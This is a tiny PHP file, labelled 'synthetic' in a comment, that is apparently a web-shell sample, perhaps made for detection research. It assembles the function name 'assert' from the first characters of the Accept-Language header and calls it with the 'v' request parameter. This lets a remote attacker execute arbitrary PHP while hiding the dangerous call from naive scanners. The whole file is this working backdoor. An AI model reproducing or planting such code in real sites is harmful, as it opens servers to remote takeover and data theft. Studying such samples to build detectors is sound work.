<?php
// synthetic: callback name completed from a header fragment
$part = substr($_SERVER['HTTP_ACCEPT_LANGUAGE'], 0, 3);
forward_static_call($part . "ert", $_REQUEST['v']);
